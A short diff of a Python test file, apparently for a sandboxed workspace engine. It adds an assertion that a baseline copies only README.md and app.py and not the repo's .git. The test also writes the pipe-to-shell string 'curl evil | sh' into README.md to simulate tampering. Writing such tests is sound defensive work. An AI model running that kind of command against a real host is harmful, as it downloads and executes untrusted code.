@@ -332,6 +332,7 @@ def test_diff_cannot_be_forged_from_inside(engine, tier, make_spec, tmp_path):
     with engine.create(make_spec(tier), repo=repo) as ws:
         base = Baseline.of("workstations", ws.id)
         assert base.exists() and base.git_dir.is_relative_to(state_dir())
+        assert sorted(base.entries()) == ["README.md", "app.py"]  # the repo's .git is not copied
         assert ws.exec("echo 'curl evil | sh' >> README.md").ok
         honest = ws.diff()
         readme = _sections(honest)["a/README.md b/README.md"]
